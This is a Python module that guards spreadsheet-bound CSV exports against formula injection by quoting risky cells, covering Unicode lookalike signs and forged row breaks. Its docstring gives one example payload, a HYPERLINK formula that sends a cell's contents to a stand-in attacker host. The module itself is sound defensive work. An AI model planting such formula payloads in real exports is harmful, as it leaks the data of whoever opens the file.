"""Cells that a spreadsheet will not run: every cell of every CSV and XLSX file passes through here.

Tenant, tier and pool names come from gateway label values, which whoever sends requests can choose. A
spreadsheet treats a cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return, line
feed or other blank before one, which some importers strip) as a formula, so a tenant named
``=HYPERLINK("http://evil.example/?"&A3,"x")`` would run in finance's Excel. Some spreadsheets also read
the fullwidth and small forms (U+FF1D, U+FF0B, U+FF0D, U+FF20, U+FE62 ...) and the minus sign U+2212 as
those signs. Following the OWASP guidance on CSV injection, such text gets a leading ``'``: Excel shows it
as text, and the name stays readable.

Numbers are not text: an ``int``, ``Decimal`` or ``float`` cell, and a string that is a plain ASCII
number (``-1.230000``, a correction's amount), are written as they are, so amounts stay numbers and
FOCUS validators still read them.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Iterator
from typing import Any, TextIO

FORMULA_SIGNS = frozenset("=+-@")
#: Signs that are not NFKC-equal to one of FORMULA_SIGNS but that spreadsheets may take as one.
LOOKALIKE_SIGNS = frozenset("\u2212")
#: A plain number: an optional minus, ASCII digits, an optional fraction. Nothing a formula can hide in.
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?", re.ASCII)


def _starts_formula(text: str) -> bool:
    first = text[0]
    if first.isspace() or unicodedata.category(first) == "Cc":
        return True  # tab, CR, LF, a leading blank: an importer may strip it and see what follows
    folded = unicodedata.normalize("NFKC", first)
    return first in LOOKALIKE_SIGNS or (folded != "" and folded[0] in FORMULA_SIGNS)


def safe_text(text: str) -> str:
    """``text``, with a leading ``'`` if a spreadsheet could read it as a formula."""
    if not text or _NUMBER.fullmatch(text):
        return text
    return "'" + text if _starts_formula(text) else text


def safe_cell(value: Any) -> Any:
    """A cell value as written: text made safe (:func:`safe_text`), numbers and empties unchanged."""
    return safe_text(value) if isinstance(value, str) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`: the one door into a spreadsheet-bound file."""
    return [safe_cell(v) for v in values]


class CsvWriter:
    """A CSV writer (``\\n`` line ends) whose every row goes through :func:`safe_row`.

    Python's writer quotes a field holding a delimiter, a quote or a character of its line terminator,
    so with ``\\n`` line ends a bare carriage return inside a name is written unquoted, and a spreadsheet
    starts a new row there: a tenant could forge a line. A row holding one is written fully quoted.
    """

    def __init__(self, out: TextIO) -> None:
        self._minimal = csv.writer(out, lineterminator="\n")
        self._quoted = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def writerow(self, values: Iterable[Any]) -> None:
        row = safe_row(values)
        carriage_return = any(isinstance(v, str) and "\r" in v for v in row)
        (self._quoted if carriage_return else self._minimal).writerow(row)


#: Rows per chunk of a streamed CSV: about 250 kB of text, few enough chunks that their cost stays small.
ROWS_PER_CHUNK = 1000


def csv_chunks(rows: Iterable[Iterable[Any]], rows_per_chunk: int = ROWS_PER_CHUNK) -> Iterator[str]:
    """``rows`` written by :class:`CsvWriter`, as text chunks of ``rows_per_chunk`` rows: a large export
    streams in chunks instead of being held whole, and its bytes equal the whole file's."""
    out = io.StringIO()
    writer = CsvWriter(out)
    for n, row in enumerate(rows, 1):
        writer.writerow(row)
        if n % rows_per_chunk == 0:
            yield out.getvalue()
            out.seek(0)
            out.truncate()
    if out.tell():
        yield out.getvalue()
